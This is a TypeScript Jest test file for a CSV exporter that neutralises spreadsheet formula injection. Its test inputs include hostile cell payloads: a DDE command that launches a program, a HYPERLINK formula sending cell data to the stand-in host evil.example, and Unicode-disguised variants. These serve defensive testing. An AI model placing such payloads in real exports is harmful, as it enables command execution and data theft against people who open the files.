import { buffer } from 'node:stream/consumers';

import { describe, expect, it } from '@jest/globals';

import { csvStream, harmlessText, type CsvCell } from './csv.js';

const file = (...rows: CsvCell[][]): Promise<string> =>
  buffer(csvStream(['what'], rows)).then(String);

describe('text in a cell', () => {
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tharmless by itself',
    '=1+2";=1+2',
    '=1+2\'" ;,=1+2',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    '@evil',
    '-5',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff \u2060@SUM(1)',
  ])('cannot become a formula: %j', (evil) => {
    expect(harmlessText(evil).startsWith("'")).toBe(true);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a; ＠b', "a; '＠b"],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\r\n+1', "a\r\n'+1"],
    ['a\t-1', "a\t'-1"],
    ['a;"=1+1', `a;"'=1+1`],
    ['a\n"=1+1"', `a\n"'=1+1"`],
    ['a; "" =1+1', `a; "" '=1+1`],
    ['a;\u200b=1+1', "a;\u200b'=1+1"],
  ])('hides none from a spreadsheet that separates by another sign: %j', (evil, harmless) => {
    expect(harmlessText(evil)).toBe(harmless);
  });

  it.each([
    'Toulouse – Lyon',
    'a=b',
    'camille@example.org',
    '1-2',
    '{"a":[1,-5]}',
    '',
    'été; hiver',
    '"a"; "b=c"',
  ])('stays as it is where it is none: %j', (said) => {
    expect(harmlessText(said)).toBe(said);
  });
});

describe('a CSV file', () => {
  it('begins with the mark of UTF-8 and quotes every text', async () => {
    expect(await file(['Élodie "Lo" Sanchez, Toulouse'])).toBe(
      '\uFEFF"what"\r\n"Élodie ""Lo"" Sanchez, Toulouse"\r\n',
    );
  });

  it('keeps numbers as numbers, below zero too, and the unknown empty', async () => {
    const at = new Date('2026-05-20T09:00:00Z');
    expect(await file([-5, 1.5, -(2n ** 60n), null, true, at, '-5'])).toBe(
      '\uFEFF"what"\r\n-5,1.5,-1152921504606846976,,"true","2026-05-20T09:00:00.000Z","\'-5"\r\n',
    );
  });

  it('breaks off where its rows do', async () => {
    const rows = async function* (): AsyncGenerator<CsvCell[]> {
      yield ['one'];
      await Promise.reject(new Error('the database went away'));
    };
    await expect(buffer(csvStream(['what'], rows()))).rejects.toThrow('the database went away');
  });
});
